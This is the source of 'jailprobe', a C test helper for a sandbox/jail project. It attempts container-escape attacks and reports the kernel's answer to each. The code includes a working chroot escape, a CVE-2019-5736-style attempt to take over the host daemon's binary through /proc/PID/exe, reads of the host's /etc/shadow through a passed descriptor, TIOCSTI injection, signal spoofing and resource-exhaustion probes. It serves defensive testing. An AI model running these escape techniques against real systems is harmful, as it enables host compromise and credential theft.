/* jailprobe: tries attacks from inside a jail and prints what the kernel answered, one line
 * per try ("NAME: ok" or "NAME: <errno name>"). Built static by the tests and copied into the
 * test rootfs twice: /bin/jailprobe, and /bin/rootprobe, setuid root, which becomes uid 0
 * first, as a tenant would with a setuid binary or a weak root password. Test code only. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <grp.h>
#include <ctype.h>
#include <dirent.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <linux/if_ether.h>
#include <sys/fanotify.h>
#include <sys/inotify.h>

#ifndef IP_LOCAL_PORT_RANGE
#define IP_LOCAL_PORT_RANGE 51
#endif

/* A loopback TCP or UDP socket of IPv4 or IPv6 ("tcp4", "udp6", …) and its address. */
static int loopback_socket(const char *kind, int port, struct sockaddr_storage *address, socklen_t *size) {
    int v6 = strchr(kind, '6') != NULL;
    memset(address, 0, sizeof *address);
    if (v6) {
        struct sockaddr_in6 *a = (struct sockaddr_in6 *)address;
        a->sin6_family = AF_INET6;
        a->sin6_port = htons(port);
        a->sin6_addr = in6addr_loopback;
        *size = sizeof *a;
    } else {
        struct sockaddr_in *a = (struct sockaddr_in *)address;
        a->sin_family = AF_INET;
        a->sin_port = htons(port);
        a->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        *size = sizeof *a;
    }
    return socket(v6 ? AF_INET6 : AF_INET, kind[0] == 't' ? SOCK_STREAM : SOCK_DGRAM, 0);
}

static int bound_port(int fd) {
    struct sockaddr_storage a;
    socklen_t size = sizeof a;
    if (getsockname(fd, (struct sockaddr *)&a, &size) < 0) return -1;
    return ntohs(a.ss_family == AF_INET6 ? ((struct sockaddr_in6 *)&a)->sin6_port : ((struct sockaddr_in *)&a)->sin_port);
}

static int report(const char *name, long rc) {
    if (rc < 0) printf("%s: %s\n", name, strerrorname_np(errno));
    else printf("%s: ok\n", name);
    fflush(stdout);
    return rc < 0;
}

static long abstract_socket(const char *name, int listen_mode) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) return -1;
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    size_t len = strlen(name);
    memcpy(addr.sun_path + 1, name, len);
    socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len);
    if (listen_mode) {
        if (bind(fd, (struct sockaddr *)&addr, size) < 0 || listen(fd, 8) < 0) return -1;
        printf("listening\n");
        fflush(stdout);
        int c = accept(fd, NULL, NULL);
        if (c < 0) return -1;
        ssize_t n = write(c, "hello-from-listener\n", 20);
        return n == 20 ? 0 : -1;
    }
    if (connect(fd, (struct sockaddr *)&addr, size) < 0) return -1;
    char buf[64] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n > 0) fputs(buf, stdout);
    return n > 0 ? 0 : -1;
}

/* The classic chroot escape: chroot into a subdirectory while a descriptor of the old root
 * stays open, climb out with fchdir and "..", chroot to where the climb ends. */
static long chroot_escape(void) {
    mkdir("/tmp/escape-dir", 0755);
    int old = open("/", O_RDONLY | O_DIRECTORY);
    if (old < 0 || chroot("/tmp/escape-dir") < 0) return -1;
    if (fchdir(old) < 0) return -1;
    for (int i = 0; i < 64; i++) if (chdir("..") < 0) return -1;
    if (chroot(".") < 0) return -1;
    int fd = open("/etc/issue", O_RDONLY);
    char buf[256] = {0};
    if (fd >= 0 && read(fd, buf, sizeof buf - 1) > 0) printf("issue after escape: %s", buf);
    return 0;
}

/* CVE-2019-5736 as the jail user: find a process of this jail whose command line contains
 * PATTERN (jaild run as the user's shell), open its /proc/PID/exe, and hand the descriptor
 * to root inside (rootprobe exe-chown) by exec. */
static int exe_attack(const char *pattern, const char *uid, int tries) {
    for (int round = 0; round < tries; round++) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        while (dir && (entry = readdir(dir))) {
            if (!isdigit((unsigned char)entry->d_name[0]) || atoi(entry->d_name) == getpid()) continue;
            char path[300], text[4096];
            snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            ssize_t n = read(fd, text, sizeof text - 1);
            close(fd);
            if (n <= 0) continue;
            for (ssize_t i = 0; i < n; i++) if (!text[i]) text[i] = ' ';
            text[n] = 0;
            if (!strstr(text, pattern)) continue;
            printf("found %s\n", entry->d_name);
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int exe = open(path, O_RDONLY);
            if (report("open-exe", exe)) return 1;
            char number[16];
            snprintf(number, sizeof number, "%d", exe);
            execl("/bin/rootprobe", "rootprobe", "exe-chown", number, uid, (char *)NULL);
            return report("exec-rootprobe", -1);
        }
        if (dir) closedir(dir);
        usleep(10000);
    }
    printf("not-found\n");
    return 1;
}

/* Root inside with a descriptor of jaild's file: take it, make it setuid, reopen it for writing. */
static int exe_chown(int fd, int uid) {
    report("fchown", fchown(fd, (uid_t)uid, (gid_t)uid));
    report("fchmod", fchmod(fd, 04777));
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    report("reopen-write", open(path, O_WRONLY));
    return 0;
}

/* Root inside listens on an abstract socket; a host process connects in and passes a
 * descriptor of the host's "/". Then: read a secret, create a file, list the directory. */
static int abstract_receive_fd(const char *name, const char *create, const char *chmod_target) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    size_t len = strlen(name);
    memcpy(addr.sun_path + 1, name, len);
    socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len);
    if (bind(fd, (struct sockaddr *)&addr, size) < 0 || listen(fd, 1) < 0) return report("listen", -1);
    printf("listening\n");
    fflush(stdout);
    int c = accept(fd, NULL, NULL);
    if (c < 0) return report("accept", -1);
    char byte;
    char control[CMSG_SPACE(sizeof(int))];
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    if (recvmsg(c, &msg, 0) < 1) return report("recvmsg", -1);
    struct cmsghdr *cmsg = CMSG_FIRSTHDR(&msg);
    if (!cmsg || cmsg->cmsg_type != SCM_RIGHTS) { printf("no-fd\n"); return 1; }
    int host;
    memcpy(&host, CMSG_DATA(cmsg), sizeof host);
    printf("got-fd\n");
    report("read-shadow", openat(host, "etc/shadow", O_RDONLY));
    report("read-passwd", openat(host, "etc/passwd", O_RDONLY));
    report("list-root", openat(host, ".", O_RDONLY | O_DIRECTORY));
    report("create", openat(host, create, O_CREAT | O_WRONLY | O_EXCL, 0644));
    report("mkdir", mkdirat(host, create[0] ? "tmp/jail-landlock-probe-dir" : "", 0755));
    /* Not file-system accesses Landlock controls (see docs/security.md): only reported. */
    if (chmod_target[0]) {
        report("chmod", fchmodat(host, chmod_target, 0604, 0));
        report("chown", fchownat(host, chmod_target, 1, 1, 0));
    }
    return 0;
}

/* The stdio descriptors a session got (issue 22 item 1): what they are, and whether root
 * inside can change the object behind them. fd-kind N, fd-same N PATH, fd-fchmod N MODE,
 * fd-fchown N UID, fd-reopen-write N (through /proc/self/fd/N), fd-flood N (writes forever). */
static int fd_probe(const char *t, int argc, char **argv) {
    int fd = argc > 2 ? atoi(argv[2]) : 0;
    struct stat st;
    if (!strcmp(t, "fd-kind")) {
        if (fstat(fd, &st) < 0) return report(t, -1);
        const char *kind = "other";
        if (S_ISFIFO(st.st_mode)) kind = "pipe";
        else if (S_ISREG(st.st_mode)) kind = "regular";
        else if (S_ISDIR(st.st_mode)) kind = "directory";
        else if (S_ISCHR(st.st_mode)) kind = major(st.st_rdev) == 1 && minor(st.st_rdev) == 3 ? "null" : "char";
        else if (S_ISSOCK(st.st_mode)) {
            int domain = 0;
            socklen_t len = sizeof domain;
            getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &len);
            kind = domain == AF_UNIX ? "unix-socket" : domain == AF_INET || domain == AF_INET6 ? "inet-socket" : "socket";
        }
        printf("%s: %s ino=%lu\n", t, kind, (unsigned long)st.st_ino);
        return 0;
    }
    if (!strcmp(t, "fd-same") && argc > 3) {
        struct stat other;
        if (fstat(fd, &st) < 0 || stat(argv[3], &other) < 0) return report(t, -1);
        printf("%s: %s\n", t, st.st_dev == other.st_dev && st.st_ino == other.st_ino ? "yes" : "no");
        return 0;
    }
    if (!strcmp(t, "fd-fchmod") && argc > 3) return report(t, fchmod(fd, strtol(argv[3], NULL, 8)));
    if (!strcmp(t, "fd-fchown") && argc > 3) return report(t, fchown(fd, atoi(argv[3]), atoi(argv[3])));
    if (!strcmp(t, "fd-reopen-write")) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        int w = open(path, O_WRONLY | O_NONBLOCK); /* a full pipe must not block the probe */
        return report(t, w < 0 ? w : write(w, "x", 1));
    }
    if (!strcmp(t, "fd-flood")) {
        /* A writer that keeps a big pipe full (F_SETPIPE_SZ, 1 MiB): a relay that drains
         * "until EAGAIN" never gets there. Writes zeros until the reader is gone. */
        static char zeros[65536];
        fcntl(fd, F_SETPIPE_SZ, 1 << 20);
        while (write(fd, zeros, sizeof zeros) > 0) {}
        return 0;
    }
    fprintf(stderr, "jailprobe: unknown test %s\n", t);
    return 2;
}

/* Signals a process (init: pid 1) without kill(2), as root inside could (issue 27, item 10):
 * "sigio-pipe PID SIG" and "sigio-socket PID SIG" make the kernel send SIG to PID when a byte
 * arrives (F_SETOWN + F_SETSIG + O_ASYNC: si_code POLL_IN, sender pid 0); "sigqueue-pid0 PID
 * SIG" queues SIG with a sender pid of 0 written by hand (rt_sigqueueinfo, SI_QUEUE). */
static int signal_probe(const char *t, int argc, char **argv) {
    pid_t target = argc > 2 ? atoi(argv[2]) : 1;
    int sig = argc > 3 ? atoi(argv[3]) : SIGTERM;
    if (!strcmp(t, "sigio-pipe") || !strcmp(t, "sigio-socket")) {
        int fds[2];
        int rc = !strcmp(t, "sigio-pipe") ? pipe(fds) : socketpair(AF_UNIX, SOCK_STREAM, 0, fds);
        if (rc < 0) return report(t, rc);
        if (fcntl(fds[0], F_SETOWN, target) < 0 || fcntl(fds[0], F_SETSIG, sig) < 0
            || fcntl(fds[0], F_SETFL, fcntl(fds[0], F_GETFL) | O_ASYNC) < 0) return report(t, -1);
        return report(t, write(fds[1], "x", 1));
    }
    if (!strcmp(t, "sigqueue-pid0")) {
        siginfo_t info;
        memset(&info, 0, sizeof info);
        info.si_signo = sig;
        info.si_code = SI_QUEUE;
        info.si_pid = 0;
        info.si_uid = 0;
        return report(t, syscall(SYS_rt_sigqueueinfo, target, sig, &info));
    }
    fprintf(stderr, "jailprobe: unknown test %s\n", t);
    return 2;
}

int main(int argc, char **argv) {
    if (geteuid() == 0 && getuid() != 0) {
        if (setgid(0) < 0 || setuid(0) < 0) { perror("setuid"); return 1; }
    }
    if (argc < 2) { fprintf(stderr, "usage: jailprobe TEST [ARG]\n"); return 2; }
    const char *t = argv[1];
    const char *arg = argc > 2 ? argv[2] : "";
    if (!strcmp(t, "id")) { printf("uid=%d euid=%d\n", getuid(), geteuid()); return 0; }
    if (!strcmp(t, "exec")) { setgroups(0, NULL); execv(argv[2], argv + 2); perror("execv"); return 127; }
    if (!strcmp(t, "mount-proc")) return report(t, mount("proc", "/mnt", "proc", 0, NULL));
    if (!strcmp(t, "remount-proc")) return report(t, mount(NULL, "/proc", NULL, MS_REMOUNT | MS_BIND, NULL));
    if (!strcmp(t, "remount-sys-rw")) return report(t, mount(NULL, "/sys", NULL, MS_REMOUNT, NULL));
    if (!strcmp(t, "umount-proc-mask")) return report(t, umount2("/proc/kcore", MNT_DETACH));
    if (!strcmp(t, "mknod")) return report(t, mknod("/tmp/probe-sda", S_IFBLK | 0600, makedev(8, 0)));
    if (!strcmp(t, "init-module")) return report(t, syscall(SYS_init_module, "", 0, ""));
    if (!strcmp(t, "raw-socket")) return report(t, socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    if (!strcmp(t, "packet-socket")) return report(t, socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
    if (!strcmp(t, "sethostname-host")) return report(t, sethostname("pwned", 5));
    if (!strcmp(t, "reboot")) return report(t, reboot(RB_POWER_OFF));
    if (!strcmp(t, "settimeofday")) { struct timeval tv; gettimeofday(&tv, NULL); return report(t, settimeofday(&tv, NULL)); }
    if (!strcmp(t, "clock-settime")) { struct timespec ts; clock_gettime(CLOCK_REALTIME, &ts); return report(t, clock_settime(CLOCK_REALTIME, &ts)); }
    if (!strcmp(t, "ptrace")) return report(t, ptrace(PTRACE_ATTACH, atoi(arg), 0, 0));
    if (!strcmp(t, "open-by-handle")) {
        struct { unsigned int bytes; int type; unsigned char h[8]; } fh = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
        return report(t, syscall(SYS_open_by_handle_at, AT_FDCWD, &fh, O_RDONLY));
    }
    if (!strcmp(t, "dev-mem")) return report(t, open("/dev/mem", O_RDONLY));
    if (!strcmp(t, "keyctl")) return report(t, syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4, 0));
    if (!strcmp(t, "add-key")) return report(t, syscall(SYS_add_key, "user", "probe", "x", 1, -4));
    if (!strcmp(t, "bpf")) return report(t, syscall(SYS_bpf, 0, NULL, 0));
    if (!strcmp(t, "perf-event-open")) return report(t, syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
    if (!strcmp(t, "kexec-load")) return report(t, syscall(SYS_kexec_load, 0, 0, NULL, 0));
    if (!strcmp(t, "swapon")) return report(t, syscall(SYS_swapon, "/tmp/none", 0));
    if (!strcmp(t, "acct")) return report(t, syscall(SYS_acct, NULL));
    if (!strcmp(t, "unshare-user")) return report(t, unshare(CLONE_NEWUSER));
    if (!strcmp(t, "unshare-net")) return report(t, unshare(CLONE_NEWNET));
    if (!strcmp(t, "setns")) { int fd = open("/proc/self/ns/net", O_RDONLY); return report(t, fd < 0 ? fd : setns(fd, 0)); }
    if (!strcmp(t, "clone-newuser")) {
        pid_t p = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
        if (p == 0) _exit(0);
        if (p > 0) waitpid(p, NULL, 0);
        return report(t, p);
    }
    if (!strcmp(t, "fork")) { pid_t p = fork(); if (p == 0) _exit(0); if (p > 0) waitpid(p, NULL, 0); return report(t, p); }
    if (!strcmp(t, "tiocsti")) {
        /* Every terminal this process can name: its stdio and its controlling tty. */
        char c = 'Z';
        for (int fd = 0; fd < 3; fd++) {
            char name[16];
            snprintf(name, sizeof name, "tiocsti-fd%d", fd);
            if (isatty(fd)) report(name, ioctl(fd, TIOCSTI, &c));
            else printf("%s: not a tty\n", name);
        }
        int tty = open("/dev/tty", O_RDWR);
        if (tty >= 0) report("tiocsti-devtty", ioctl(tty, TIOCSTI, &c));
        else report("tiocsti-devtty", -1);
        return 0;
    }
    if (!strcmp(t, "bind")) {
        /* bind tcp4|tcp6|udp4|udp6 PORT on loopback; prints the port bound (0 → ephemeral). */
        int v6 = strchr(arg, '6') != NULL;
        int fd = socket(v6 ? AF_INET6 : AF_INET, arg[0] == 't' ? SOCK_STREAM : SOCK_DGRAM, 0);
        if (fd < 0) return report(t, fd);
        int port = argc > 3 ? atoi(argv[3]) : 0;
        long rc;
        if (v6) {
            struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(port), .sin6_addr = IN6ADDR_LOOPBACK_INIT};
            rc = bind(fd, (struct sockaddr *)&a, sizeof a);
        } else {
            struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
            rc = bind(fd, (struct sockaddr *)&a, sizeof a);
        }
        return report(t, rc);
    }
    if (!strcmp(t, "port-range")) {
        /* port-range KIND PORT: narrow bind(0) to PORT with IP_LOCAL_PORT_RANGE, then bind(0). */
        struct sockaddr_storage a;
        socklen_t size;
        int port = atoi(argv[3]);
        int fd = loopback_socket(arg, 0, &a, &size);
        if (fd < 0) return report(t, fd);
        uint32_t range = (uint32_t)port | (uint32_t)port << 16;
        report("setsockopt", setsockopt(fd, IPPROTO_IP, IP_LOCAL_PORT_RANGE, &range, sizeof range));
        long rc = bind(fd, (struct sockaddr *)&a, size);
        if (rc == 0) printf("bound %d\n", bound_port(fd));
        return report("bind0", rc);
    }
    if (!strcmp(t, "bind0-loop")) {
        /* bind0-loop KIND LOW HIGH TRIES: bind(0) again and again, hoping for a port in LOW-HIGH. */
        int low = atoi(argv[3]), high = atoi(argv[4]), tries = atoi(argv[5]), failed = 0;
        for (int i = 0; i < tries; i++) {
            struct sockaddr_storage a;
            socklen_t size;
            int fd = loopback_socket(arg, 0, &a, &size);
            if (fd < 0) return report(t, fd);
            int port = bind(fd, (struct sockaddr *)&a, size) < 0 ? (failed++, -1) : bound_port(fd);
            close(fd);
            if (port >= low && port <= high) { printf("reached %d after %d\n", port, i + 1); return 0; }
        }
        printf("not reached in %d (%d refused)\n", tries, failed);
        return 0;
    }
    if (!strcmp(t, "autobind-loop")) {
        /* autobind-loop KIND LOW HIGH TRIES DEST: the kernel picks the port without bind(2):
         * connect (TCP, to a listener on DEST) or sendto (UDP, to DEST), again and again. */
        int low = atoi(argv[3]), high = atoi(argv[4]), tries = atoi(argv[5]), dest = atoi(argv[6]), failed = 0;
        for (int i = 0; i < tries; i++) {
            struct sockaddr_storage a;
            socklen_t size;
            int fd = loopback_socket(arg, dest, &a, &size);
            if (fd < 0) return report(t, fd);
            long rc = arg[0] == 't' ? connect(fd, (struct sockaddr *)&a, size)
                                    : sendto(fd, "x", 1, 0, (struct sockaddr *)&a, size);
            int port = rc < 0 ? (failed++, -1) : bound_port(fd);
            close(fd);
            if (port >= low && port <= high) { printf("reached %d after %d\n", port, i + 1); return 0; }
        }
        printf("not reached in %d (%d refused)\n", tries, failed);
        return 0;
    }
    if (!strcmp(t, "io-setup")) {
        unsigned long context = 0;
        long rc = syscall(SYS_io_setup, 1, &context);
        if (rc == 0) syscall(SYS_io_destroy, context);
        return report(t, rc);
    }
    if (!strcmp(t, "fanotify-init")) return report(t, fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID, O_RDONLY));
    if (!strcmp(t, "connect4")) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(arg)), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        return report(t, fd < 0 ? fd : connect(fd, (struct sockaddr *)&a, sizeof a));
    }
    if (!strcmp(t, "hold-ptys")) {
        /* Opens ptys until ARG are held or the jail's devpts says no, then waits for stdin EOF. */
        int held = 0;
        long rc = 0;
        while (held < atoi(arg) && (rc = open("/dev/ptmx", O_RDWR | O_NOCTTY)) >= 0) held++;
        printf("held %d\n", held);
        report("last-open", rc);
        char buf[1];
        while (read(0, buf, 1) > 0) {}
        return 0;
    }
    if (!strcmp(t, "hold-inotify")) {
        /* Opens inotify instances until ARG are held or the kernel says no, then waits for
         * stdin EOF (the host checks its own meanwhile). */
        int held = 0;
        long rc = 0;
        while (held < atoi(arg) && (rc = inotify_init1(IN_CLOEXEC)) >= 0) held++;
        printf("held %d\n", held);
        report("last-init", rc);
        char buf[1];
        while (read(0, buf, 1) > 0) {}
        return 0;
    }
    if (!strcmp(t, "chroot-escape")) return report(t, chroot_escape());
    if (!strcmp(t, "abstract-listen")) return report(t, abstract_socket(arg, 1));
    if (!strcmp(t, "abstract-connect")) return report(t, abstract_socket(arg, 0));
    if (!strcmp(t, "kill")) return report(t, kill(atoi(arg), argc > 3 ? atoi(argv[3]) : SIGTERM));
    if (!strcmp(t, "write-file")) { int fd = open(arg, O_WRONLY); return report(t, fd < 0 ? fd : write(fd, "x", 1)); }
    if (!strcmp(t, "read-file")) {
        int fd = open(arg, O_RDONLY);
        if (fd < 0) return report(t, fd);
        char buf[64];
        return report(t, read(fd, buf, sizeof buf));
    }
    if (!strcmp(t, "exe-attack")) return exe_attack(arg, argc > 3 ? argv[3] : "0", argc > 4 ? atoi(argv[4]) : 200);
    if (!strcmp(t, "exe-chown")) return exe_chown(atoi(arg), argc > 3 ? atoi(argv[3]) : 0);
    if (!strcmp(t, "abstract-receive-fd")) return abstract_receive_fd(arg, argc > 3 ? argv[3] : "", argc > 4 ? argv[4] : "");
    if (!strcmp(t, "write-text")) {
        int fd = open(arg, O_WRONLY);
        const char *text = argc > 3 ? argv[3] : "";
        return report(t, fd < 0 ? fd : write(fd, text, strlen(text)));
    }
    if (!strncmp(t, "fd-", 3)) return fd_probe(t, argc, argv);
    if (!strncmp(t, "sigio-", 6) || !strncmp(t, "sigqueue-", 9)) return signal_probe(t, argc, argv);
    fprintf(stderr, "jailprobe: unknown test %s\n", t);
    return 2;
}
